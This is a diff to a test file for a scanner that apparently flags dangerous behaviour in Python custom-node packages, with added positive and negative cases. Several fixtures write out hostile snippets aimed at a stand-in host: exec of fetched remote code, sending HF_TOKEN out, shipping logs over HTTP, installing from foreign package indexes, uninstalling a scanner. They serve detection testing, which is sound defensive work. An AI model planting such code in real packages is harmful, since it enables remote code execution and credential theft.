@@ -23,6 +23,9 @@ const node = (statement: string, imports = ''): string =>
   `${imports}\nclass A:\n    def run(self, x):\n        ${statement}\nNODE_CLASS_MAPPINGS = {"A": A}\n`;
 const script = (text: string): Files => ({ '__init__.py': 'WEB_DIRECTORY = "./web"\n', 'web/a.js': text });
 
+/** More than a source may have to be parsed. */
+const LONG_LITERALS = `from typing import Dict, List\n\n"""Some tags."""\n\nTAGS: Dict[str, List[str]] = {\n${'    "red (flag)": ["a red, \\"waving\\" flag", 1.5, None],  # a comment\n'.repeat(20_000)}}\n`;
+
 describe('the checks hold indirect ways to dangerous functions', () => {
   it.each<[string, Files]>([
     ['a default factory', 'import os, dataclasses\ndataclasses.field(default_factory=lambda: os.system("a"))\n'],
@@ -99,6 +102,63 @@ describe('the checks hold indirect ways to dangerous functions', () => {
       'a script that runs what it fetched',
       { '__init__.py': '', 'install.sh': 'wget https://e.example/a -O /tmp/a\n/tmp/a\n' },
     ],
+    [
+      'removing a package that is not well known',
+      'import subprocess, sys\nsubprocess.run([sys.executable, "-m", "pip", "uninstall", "-y", "some-scanner"])\n',
+    ],
+    [
+      'another index after an equals sign',
+      'import subprocess, sys\nsubprocess.run([sys.executable, "-m", "pip", "install", "numpy", "--index-url=https://e.example"])\n',
+    ],
+    ['requirements from elsewhere', 'import os\nos.system("pip install -r https://e.example/requirements.txt")\n'],
+    [
+      'a computed name after a well-known one',
+      'import subprocess, sys\nsubprocess.run([sys.executable, "-m", "pip", "install", "numpy", input()])\n',
+    ],
+    [
+      'names of packages out of another file',
+      'import os\nfor name in open(os.path.join(os.path.dirname(__file__), "a.txt")):\n    os.system(f"pip install {name}")\n',
+    ],
+    [
+      'a name next to those of the requirements',
+      {
+        '__init__.py':
+          'import os\nfor name in open(os.path.join(os.path.dirname(__file__), "requirements.txt")):\n    os.system(f"pip install {name} unknown-thing")\n',
+        'requirements.txt': 'some-thing\n',
+      },
+    ],
+    [
+      'opening what it has fetched',
+      node('os.startfile(requests.get("https://e.example/a").text)', 'import os, requests'),
+    ],
+    [
+      'code from a fixed address',
+      node(
+        'exec(re.search("a(.*)", requests.post("https://e.example/a", json=x).text).group(1))',
+        'import re, requests',
+      ),
+    ],
+    [
+      'code from an address in parts',
+      node('exec(requests.get("https://" + ".".join(["e", "example"])).text)', 'import requests'),
+    ],
+    [
+      'code from a file that a service of models stores',
+      node('exec(requests.get("https://api.openai.com/v1/files/a/content").text)', 'import requests'),
+    ],
+    [
+      'a credential for a host without a scheme',
+      node(
+        'http.client.HTTPSConnection("e.example.org").request("GET", "/" + os.environ["HF_TOKEN"])',
+        'import os, http.client',
+      ),
+    ],
+    [
+      'a handler of log lines that sends them',
+      'import logging, logging.handlers\nlogging.getLogger().addHandler(logging.handlers.HTTPHandler("e.example", "/a"))\n',
+    ],
+    ['a long source that calls', { '__init__.py': '', 'data.py': `${LONG_LITERALS}print(1)\n` }],
+    ['a long source of encoded data', { '__init__.py': '', 'data.py': `${LONG_LITERALS}B = "${'Ab3'.repeat(100)}"\n` }],
     ['a script from elsewhere', script('import("https://e.example/a.js");')],
     ['a script element', script('s = document.createElement("script"); s.src = "https://e.example/a.js";')],
     ['a service worker', script('navigator.serviceWorker.register("/a.js");')],
@@ -125,6 +185,38 @@ describe('the checks do not hold', () => {
     [
       'installing what the requirements list',
       { '__init__.py': 'import pip\npip.main(["install", "Some_Thing"])\n', 'requirements.txt': 'some-thing>=1\n' },
+    ],
+    [
+      'removing well-known packages',
+      'import subprocess\nfrom shutil import which\nsubprocess.run([which("pip"), "show", "onnx"])\nsubprocess.run([which("pip"), "uninstall", "-y", "onnx"])\n',
+    ],
+    [
+      'installing the names in its own requirements, one by one',
+      {
+        '__init__.py':
+          'import os, sys\npath = os.path.join(os.path.dirname(__file__), "requirements.txt")\ndef install(name, action="install"):\n    os.system(f\'"{sys.executable}" -m pip {action} {name}\')\nwith open(path, "r", encoding="utf-8") as lines:\n    for line in lines.readlines():\n        install(line.strip())\n',
+        'requirements.txt': 'some-thing\n',
+      },
+    ],
+    ['a long source of readable literals', { '__init__.py': '', 'data.py': LONG_LITERALS }],
+    [
+      'a file of a request that is opened for the user',
+      '@server.routes.post("/x")\nasync def f(r):\n    import os\n    os.startfile((await r.json())["path"])\n',
+    ],
+    [
+      'code that a model answers',
+      node('exec(requests.post("https://api.openai.com/v1/chat/completions", json=x).text)', 'import requests'),
+    ],
+    [
+      'code from an address that the user enters',
+      node('exec(requests.post(f"http://{x}:8080/v1/chat", json=x).text)', 'import requests'),
+    ],
+    [
+      'a credential in a call that names files',
+      node(
+        'urllib.request.urlopen(urllib.request.Request(x, data="a.json", headers={"a": os.environ["HF_TOKEN"]}))',
+        'import os, urllib.request',
+      ),
     ],
     ['compressed data', { '__init__.py': '', 'data/words.txt.gz': 'x', 'examples.zip': 'x' }],
     ['eval that a library keeps', 'from omegaconf import OmegaConf\nOmegaConf.register_new_resolver("eval", eval)\n'],
